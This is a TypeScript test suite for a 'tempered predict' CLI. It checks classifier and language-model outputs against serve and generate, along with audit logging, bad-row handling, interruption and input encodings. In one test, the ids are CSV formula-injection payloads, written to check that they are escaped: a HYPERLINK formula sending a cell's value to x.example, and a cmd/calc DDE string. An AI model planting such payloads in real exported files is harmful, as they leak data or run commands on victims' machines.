// `tempered predict` as a user runs it: a real CLI process, a classifier registered in a real SQLite registry (and
// its artifact in the folder store), a tiny causal LM folder, real onnxruntime. Its numbers are checked against
// what serve's pooled predictor and `tempered generate` give for the same rows.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { parse as parseCsv } from 'csv-parse/sync';
import { openAudit } from '../src/audit/log.ts';
import { tinyLlamaDir } from '../src/models/tiny.testing.ts';
import { openRegistry } from '../src/registry/registry.ts';
import { testVersion } from '../src/registry/versions.testing.ts';
import { exportTinyClassifier } from '../src/serve/tiny-classifier.testing.ts';
import { loadPooledPredictor } from '../src/serve/worker-pool.ts';
import { statePaths } from '../src/state-paths.ts';
import { ArtifactStore } from '../src/store/artifact-store.ts';
import { csvField } from '../src/predict/predict.ts';
import { BIN, runCli as runCliWithin, runCliInProcess } from './helpers/cli.ts';

/**
 * The CLI in a child process, with a limit of its own: cases here run up to four at once, each loading onnxruntime and
 * a model, which took about 30 s each at load 16 on a 2-core VM (7 Dec), a quarter of runCli's default 120 s. A CLI that
 * hangs still fails its case, with its output.
 */
const runCli = (args: string[], env: Record<string, string | undefined>) => runCliWithin(args, env, { timeoutMs: 600_000 });

const root = mkdtempSync(join(tmpdir(), 'tempered-predict-cli-'));
after(() => rmSync(root, { recursive: true, force: true }));
const home = join(root, 'home');
const env = { TEMPERED_HOME: home, TEMPERED_ACTOR: 'predict-test' };

const clfDir = await exportTinyClassifier(join(root, 'clf'));
{
  const paths = statePaths(home);
  const tree = await new ArtifactStore(paths.store).putTree(clfDir);
  const reg = await openRegistry(paths.registryDb);
  try {
    await reg.registerVersion(testVersion('spam', 'a', { artifacts: [{ role: 'model', ...tree }] }));
    await reg.setAlias('spam', 'production', 1, { actor: 'test' });
  } finally {
    await reg.close();
  }
}
const lmDir = tinyLlamaDir(join(root, 'lm'), 4, { hidden: 32, layers: 2, maxPositions: 128 });
const template = join(root, 'chat.jinja');
writeFileSync(template, '{% for m in messages %}[{{ m.role }}] {{ m.content }}\n{% endfor %}[assistant] ');

/** Texts of many lengths, some past the model's maxLength (64 tokens), so truncation and padding both count. */
function reviews(n: number): { id: string; text: string }[] {
  return Array.from({ length: n }, (_, i) => ({
    id: `m${i}`,
    text: `${'a fine film, '.repeat((i * 7) % 40)}${i % 3 ? 'dull and slow' : 'bright and warm'} ${i}`,
  }));
}
const jsonl = (rows: unknown[]) => rows.map((r) => JSON.stringify(r)).join('\n') + '\n';
const lines = (file: string) =>
  readFileSync(file, 'utf8')
    .trimEnd()
    .split('\n')
    .map((l) => JSON.parse(l) as Record<string, unknown>);
/** A folder of the test's own for its input and outputs. */
function folder(name: string): string {
  const dir = join(root, name);
  mkdirSync(dir);
  return dir;
}
/** What a folder holds besides its inputs (`in-*`): a run that left a temp file behind shows here. */
const leftovers = (dir: string) => readdirSync(dir).filter((f) => !f.startsWith('in-'));
const sha256Of = (file: string) => createHash('sha256').update(readFileSync(file)).digest('hex');

test("predict: a registered classifier's labels and probabilities equal serve's for the same rows, as JSONL and CSV; audited", async () => {
  const work = folder('classifier');
  const rows = reviews(70);
  // Ids a hostile input could hold: CSV cells a spreadsheet would run as formulas get a leading ', JSONL keeps them;
  // a negative number is a number, not a formula.
  const hostile = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", '@SUM(1)', '-2+3', '\t=1', '-7'];
  const csvIds = [...hostile.slice(0, 5).map((id) => `'${id}`), '-7'];
  hostile.forEach((id, i) => (rows[i]!.id = id));
  const input = join(work, 'in-reviews.jsonl');
  writeFileSync(input, jsonl(rows));
  const out = join(work, 'reviews.jsonl');
  const csv = join(work, 'reviews.csv');
  const [a, b] = await Promise.all([
    runCli(['predict', 'spam@production', '--input', input, '--output', out, '--threads', '1'], env),
    runCli(['predict', 'spam', '--input', input, '--output', csv, '--threads', '1'], env),
  ]);
  assert.equal(a.code, 0, a.stderr);
  assert.equal(b.code, 0, b.stderr);
  assert.match(a.stderr, /70 rows of .* with spam@1 .*rows\/s/);

  // serve's /predict path: the pooled predictor on the same folder, asked with the same batches (64 texts, then 6).
  const pool = await loadPooledPredictor(clfDir, { threads: 1 });
  const texts = rows.map((r) => r.text);
  const expected = [...(await pool.predict(texts.slice(0, 64))), ...(await pool.predict(texts.slice(64)))];
  await pool.close();
  assert.deepEqual(
    lines(out),
    expected.map((p, i) => ({ id: rows[i]!.id, row: i + 1, label: p.label, scores: p.scores })),
  );
  const table = parseCsv(readFileSync(csv, 'utf8'), { columns: true }) as Record<string, string>[];
  assert.deepEqual(
    table,
    expected.map((p, i) => ({
      id: csvIds[i] ?? `m${i}`,
      row: String(i + 1),
      label: p.label,
      p_negative: String(p.scores.negative),
      p_positive: String(p.scores.positive),
    })),
  );

  const log = await openAudit(statePaths(home).auditDb);
  const records = (await log.query({ action: 'model.predicted' })).filter((r) => r.details.output === out);
  await log.close();
  assert.equal(records.length, 1);
  const [r] = records;
  assert.equal(r!.actor, 'predict-test');
  assert.equal(r!.subject, 'spam@1');
  assert.match(r!.modelHash ?? '', /^[0-9a-f]{64}$/);
  // The hashes of the bytes read and written: who holds the files can tell that these are the ones the record names.
  assert.equal(r!.dataHashes?.input, sha256Of(input));
  assert.equal(r!.details.outputSha256, sha256Of(out));
  assert.equal(r!.details.rows, 70);
  assert.equal(r!.details.input, input);
});

test("predict: a language model's answers equal generate's for the same prompts (greedy, and sampled with a seed)", async () => {
  const work = folder('lm-answers');
  const prompts = ['Once upon', 'hello there'];
  const input = join(work, 'in-prompts.jsonl');
  // The third prompt is longer than the model's context (128): that row is refused, the others answered. The fourth
  // has more characters than the context's tokens could hold at 32 a token: refused by its length, untokenized, as
  // serve refuses such a prompt.
  writeFileSync(
    input,
    jsonl([{ prompt: prompts[0] }, { id: 7, prompt: prompts[1] }, { prompt: 'word '.repeat(300) }, { prompt: 'x'.repeat(5000) }]),
  );
  const flags = ['--chat-template', template, '--threads', '1'];
  const skip = ['--on-bad-row', 'skip'];
  const sampled = ['--temperature', '0.9', '--seed', '3'];
  // --max-tokens, as generate and chat name it; --max-new-tokens, predict's first name for it, still works.
  const predict = (out: string, more: string[] = [], maxFlag = '--max-tokens') =>
    runCli(['predict', lmDir, '--input', input, '--output', join(work, out), maxFlag, '6', ...flags, ...more], env);
  const generate = (more: string[] = []) => runCli(['generate', lmDir, prompts[1]!, '--max-tokens', '6', ...flags, ...more], env);
  const runs = await Promise.all([
    predict('answers.jsonl', skip),
    predict('sampled.jsonl', [...sampled, ...skip], '--max-new-tokens'),
    generate(),
    generate(sampled),
  ]);
  for (const r of runs) assert.equal(r.code, 0, r.stderr);
  assert.doesNotMatch(runs[0]!.stderr, /deprecated/);
  assert.match(runs[1]!.stderr, /--max-new-tokens is deprecated; it is --max-tokens now, as in generate and chat/);
  const [greedy, seeded] = runs.slice(2).map((g) => g.stdout.replace(/\n$/, ''));
  assert.match(
    runs[0]!.stderr,
    /2 bad rows left out \(rejected 2\), first: line 3: the prompt has \d+ tokens; the model's context is 128.*; line 4: the prompt has 5000 characters, more than 32 a token for the 127 tokens the model's context holds$/m,
  );
  const answers = lines(join(work, 'answers.jsonl'));
  assert.equal(answers.length, 2);
  assert.deepEqual(answers[1], { id: 7, row: 2, answer: greedy, finishReason: 'length' });
  assert.deepEqual(Object.keys(answers[0]!), ['row', 'answer', 'finishReason']);
  assert.equal(lines(join(work, 'sampled.jsonl'))[1]!.answer, seeded);
  assert.notEqual(seeded, greedy, 'sampling gave another answer than greedy, so the settings reached the model');
});

test("predict: rows in OpenAI's chat format are answered as conversations, as generate answers their rendered text", async () => {
  // A file a chat pipeline ingests (or its test split) is asked as it is, without --text-field: before, each such row
  // was a missing-field "prompt" bad row whose hint, --text-field messages, only made it a not-string one.
  const work = folder('conversations');
  const input = join(work, 'in-chats.jsonl');
  const turns = [
    { role: 'system', content: 'Be brief.' },
    { role: 'user', content: 'Once upon' },
    { role: 'assistant', content: 'a time' },
    { role: 'user', content: 'hello there' },
  ];
  writeFileSync(
    input,
    jsonl([
      { messages: turns },
      // Ending with a reply, as a fine-tuning row does: asked what comes in its place.
      { id: 'r', messages: [...turns, { role: 'assistant', content: 'the reference', weight: 0 }] },
      {
        messages: [
          { role: 'user', content: 'hi' },
          { role: 'tool', content: '{}' },
        ],
      },
      { prompt: 'hello there' },
      // No system message of its own: --system is put before it, as before a prompt row's.
      { messages: [{ role: 'user', content: 'hello there' }] },
    ]),
  );
  // --system differs from the conversations' own, which it must not replace.
  const flags = ['--chat-template', template, '--threads', '1', '--system', 'Be long.'];
  const out = join(work, 'answers.jsonl');
  const rendered = '[system] Be brief.\n[user] Once upon\n[assistant] a time\n[user] hello there\n[assistant] ';
  const [predicted, generated, single, raw] = await Promise.all([
    runCli(['predict', lmDir, '--input', input, '--output', out, '--max-new-tokens', '6', '--on-bad-row', 'skip', ...flags], env),
    runCli(['generate', lmDir, rendered, '--raw', '--max-tokens', '6', '--threads', '1'], env),
    runCli(['generate', lmDir, 'hello there', '--max-tokens', '6', ...flags], env),
    // --raw leaves out the template a conversation is rendered with: each such row is refused, saying so.
    runCli(
      ['predict', lmDir, '--input', input, '--output', join(work, 'raw.jsonl'), '--raw', '--on-bad-row', 'skip', '--threads', '1'],
      env,
    ),
  ]);
  for (const r of [predicted, generated, single, raw]) assert.equal(r.code, 0, r.stderr);
  assert.match(raw.stderr, /first: line 1: a conversation is asked through the chat template, which --raw leaves out; drop --raw/);
  assert.deepEqual(
    lines(join(work, 'raw.jsonl')).map((r) => r.row),
    [4],
    'only the prompt row is answered --raw',
  );
  assert.match(
    predicted.stderr,
    /1 bad rows? left out \(invalid-conversation 1\), first: line 3: "messages"\[1\]\.role is "tool"; use system, user or assistant/,
  );
  const answers = lines(out);
  const answer = generated.stdout.replace(/\n$/, '');
  assert.deepEqual(answers.slice(0, 2), [
    { row: 1, answer, finishReason: 'length' },
    { id: 'r', row: 2, answer, finishReason: 'length' },
  ]);
  const asPrompt = single.stdout.replace(/\n$/, '');
  assert.deepEqual(answers.slice(2), [
    { row: 4, answer: asPrompt, finishReason: 'length' },
    { row: 5, answer: asPrompt, finishReason: 'length' },
  ]);
});

test('predict: a bad row fails the run naming its line and leaves no output; --on-bad-row skip leaves it out', async () => {
  const work = folder('bad-rows');
  const rows = reviews(200).map((r) => JSON.stringify(r));
  rows[149] = '{"id": "m149", "text": "unterminated';
  rows[179] = '{"id": "m179", "body": "no text field"}';
  const input = join(work, 'in-bad.jsonl');
  writeFileSync(input, rows.join('\n') + '\n');
  const out = join(work, 'bad.jsonl');
  const failed = await runCli(['predict', 'spam', '--input', input, '--output', out, '--threads', '1'], env);
  assert.equal(failed.code, 1, failed.stderr);
  // Two batches of 64 were written before line 150: nothing of them is left, no temp file either.
  assert.match(failed.stderr, /in-bad\.jsonl:150: invalid-json: /);
  assert.match(failed.stderr, /--on-bad-row skip/);
  assert.deepEqual(leftovers(work), []);

  const skipped = await runCli(['predict', 'spam', '--input', input, '--output', out, '--on-bad-row', 'skip', '--threads', '1'], env);
  assert.equal(skipped.code, 0, skipped.stderr);
  assert.match(
    skipped.stderr,
    /2 bad rows left out \(invalid-json 1, missing-field 1\), first: line 150: .*; line 180: field "text" .* is missing; the row has fields "id", "body"/,
  );
  const written = lines(out);
  assert.equal(written.length, 198);
  assert.deepEqual(
    written.filter((r) => r.row === 150 || r.row === 180),
    [],
  );
  assert.deepEqual([written[149]!.id, written[149]!.row], ['m150', 151]);
});

test('predict: Ctrl-C stops the run and leaves no output file', async (t) => {
  const work = folder('interrupted');
  const input = join(work, 'in-long.jsonl');
  // More rows than it answers before the signal comes, however the load slows this process or speeds up the child.
  writeFileSync(input, jsonl(Array.from({ length: 5000 }, (_, i) => ({ prompt: `tell me a long story ${i}` }))));
  const out = join(work, 'long.jsonl');
  const child = spawn(
    process.execPath,
    [BIN, 'predict', lmDir, '--input', input, '--output', out, '--chat-template', template, '--max-new-tokens', '100', '--threads', '1'],
    { env: { ...process.env, ...env }, stdio: ['ignore', 'ignore', 'pipe'] },
  );
  let stderr = '';
  child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
  let ended = false;
  const exited = new Promise<number | null>((r) =>
    child.once('exit', (code) => {
      ended = true;
      r(code);
    }),
  );
  // A case that fails (or times out) before its Ctrl-C must not leave 5000 answers running on a shared machine.
  t.after(() => void (ended || child.kill('SIGKILL')));
  // The temp output exists once the model is loaded and the rows are being answered: waited for as long as that takes
  // (30 s at most before: it took 8.5-17 s at load 12-14 on a 2-core VM, 7 Dec), or until the child ends without one.
  while (!ended && !leftovers(work).some((f) => f.endsWith('.tmp'))) await new Promise((r) => setTimeout(r, 50));
  assert.ok(
    leftovers(work).some((f) => f.endsWith('.tmp')),
    `a temp output while it runs; stderr: ${stderr}`,
  );
  child.kill('SIGINT');
  assert.equal(await exited, 130, stderr);
  assert.match(stderr, /interrupted \(SIGINT\); nothing was written to .*long\.jsonl/);
  assert.deepEqual(leftovers(work), []);
});

test('predict: an existing output is kept unless --force; unknown models and options of the other kind of model are refused', async () => {
  const work = folder('force');
  // A CSV input this time: a header, then a record a line (rows 2 to 4), one of them quoted over two lines.
  const input = join(work, 'in-small.csv');
  const [r0, r1, r2] = reviews(3);
  const texts = [r0!.text, `${r1!.text}, "quoted"\nover two lines`, r2!.text];
  writeFileSync(input, `id,text\n${[r0, r1, r2].map((r, i) => `${r!.id},${csvField(texts[i])}\n`).join('')}`);
  const out = join(work, 'small.jsonl');
  writeFileSync(out, 'keep me\n');
  // Refused before a model loads: in this process, as the CLI's main() says them.
  const kept = await runCliInProcess(['predict', 'spam', '--input', input, '--output', out], env);
  assert.equal(kept.code, 2, kept.stderr);
  assert.match(kept.stderr, /small\.jsonl: the output file exists\n.*--force/);
  assert.equal(readFileSync(out, 'utf8'), 'keep me\n');
  await assert.rejects(
    runCliInProcess(['predict', 'nosuch@production', '--input', input, '--output', join(work, 'x.jsonl')], env),
    /nosuch/,
  );
  const lmFlag = await runCliInProcess(
    ['predict', 'spam', '--input', input, '--output', join(work, 'y.jsonl'), '--max-new-tokens', '4'],
    env,
  );
  assert.equal(lmFlag.code, 2, lmFlag.stderr);
  assert.match(lmFlag.stderr, /spam@1 is a classifier: --max-new-tokens applies to language models only/);
  const lmFlagNow = await runCliInProcess(
    ['predict', 'spam', '--input', input, '--output', join(work, 'y.jsonl'), '--max-tokens', '4'],
    env,
  );
  assert.equal(lmFlagNow.code, 2, lmFlagNow.stderr);
  assert.match(lmFlagNow.stderr, /spam@1 is a classifier: --max-tokens applies to language models only/);
  const both = await runCliInProcess(
    ['predict', lmDir, '--input', input, '--output', join(work, 'y.jsonl'), '--max-tokens', '4', '--max-new-tokens', '5'],
    env,
  );
  assert.equal(both.code, 2, both.stderr);
  assert.match(both.stderr, /--max-new-tokens is the old name of --max-tokens: give --max-tokens only/);
  const help = await runCli(['predict', '--help'], env);
  assert.equal(help.code, 0, help.stderr);
  assert.match(help.stdout, /\[--max-tokens 128\]/);
  assert.match(help.stdout, /--max-new-tokens: the old name of --max-tokens, deprecated; it still works/);
  // --raw skips the chat template, as in generate: a system message with it would be ignored without a word.
  const rawSystem = await runCliInProcess(
    ['predict', 'nosuch', '--input', input, '--output', join(work, 'w.jsonl'), '--raw', '--system', 'be brief'],
    env,
  );
  assert.equal(rawSystem.code, 2, rawSystem.stderr);
  assert.match(rawSystem.stderr, /--system applies to the chat template, which --raw skips/);
  // An id field named like an output column: refused before the model is looked up (`row`) or loaded (its own). Both
  // were refused only after the model loaded, or, `scores` in JSONL, not at all: the id was lost under the scores.
  const rowId = await runCliInProcess(['predict', 'nosuch', '--input', input, '--output', join(work, 'v.jsonl'), '--id-field', 'row'], env);
  assert.equal(rowId.code, 2, rowId.stderr);
  assert.match(rowId.stderr, /--id-field: the id field "row" would be named like the output's own column "row"/);
  const scoresId = await runCliInProcess(
    ['predict', 'spam', '--input', input, '--output', join(work, 'v.jsonl'), '--id-field', 'scores'],
    env,
  );
  assert.equal(scoresId.code, 2, scoresId.stderr);
  assert.match(scoresId.stderr, /the id field "scores" would be named like .*\n.*columns are row, label, scores beside the id/);
  const clfFlag = await runCliInProcess(['predict', lmDir, '--input', input, '--output', join(work, 'z.jsonl'), '--batch-size', '8'], env);
  assert.equal(clfFlag.code, 2, clfFlag.stderr);
  assert.match(clfFlag.stderr, /is a language model.*--batch-size applies to classifiers only/);

  const forced = await runCli(['predict', 'spam', '--input', input, '--output', out, '--force', '--threads', '1'], env);
  assert.equal(forced.code, 0, forced.stderr);
  assert.deepEqual(
    lines(out).map((r) => [r.id, r.row]),
    [
      ['m0', 2],
      ['m1', 3],
      ['m2', 5],
    ],
  );
  rmSync(out);
  assert.deepEqual(leftovers(work), []);
});

test('predict: --encoding reads a Windows-1252 file (gzipped, padded) as its UTF-8 copy is read; the byte error names the flag', async () => {
  const work = folder('encoding');
  const rows = reviews(5).map((r, i) => ({ ...r, text: `${r.text} – “café” ${i} €` }));
  const text = `id,text\r\n${rows.map((r) => `${r.id},${csvField(r.text)}\r\n`).join('')}`;
  const utf8 = join(work, 'in-utf8.csv');
  writeFileSync(utf8, text);
  const win = join(work, 'in-win.csv.gz');
  const cp1252: Record<string, number> = { '–': 0x96, '“': 0x93, '”': 0x94, '€': 0x80 };
  const winBytes = Buffer.from([...text].map((c) => cp1252[c] ?? c.charCodeAt(0)));
  // What `dd conv=sync` leaves: the gzip data, then zeros up to a whole block.
  writeFileSync(win, Buffer.concat([gzipSync(winBytes), Buffer.alloc(512)]));
  const unknown = await runCliInProcess(
    ['predict', 'spam', '--input', win, '--output', join(work, 'x.jsonl'), '--encoding', 'cp1253'],
    env,
  );
  assert.equal(unknown.code, 2, unknown.stderr);
  assert.match(unknown.stderr, /--encoding must be one of utf-8, utf-16, windows-1252, cp1252, latin1, .* got "cp1253"/);

  const refused = await runCli(['predict', 'spam', '--input', win, '--output', join(work, 'y.jsonl'), '--threads', '1'], env);
  assert.equal(refused.code, 1, refused.stderr);
  assert.match(refused.stderr, /in-win\.csv\.gz:2: invalid-utf8: record is not valid UTF-8: byte 0x96 \("–" in Windows-1252\)/);
  assert.match(refused.stderr, /give --encoding windows-1252/);

  const [fromWin, fromUtf8] = await Promise.all([
    runCli(['predict', 'spam', '--input', win, '--output', join(work, 'win.jsonl'), '--encoding', 'windows-1252', '--threads', '1'], env),
    runCli(['predict', 'spam', '--input', utf8, '--output', join(work, 'utf8.jsonl'), '--threads', '1'], env),
  ]);
  assert.equal(fromWin.code, 0, fromWin.stderr);
  assert.equal(fromUtf8.code, 0, fromUtf8.stderr);
  assert.match(
    fromWin.stderr,
    /predict: warning: .*in-win\.csv\.gz: 512 zero bytes after the gzip data \(padding, as tape and dd write\) ignored/,
  );
  assert.deepEqual(lines(join(work, 'win.jsonl')), lines(join(work, 'utf8.jsonl')));
  assert.equal(lines(join(work, 'win.jsonl')).length, 5);
});
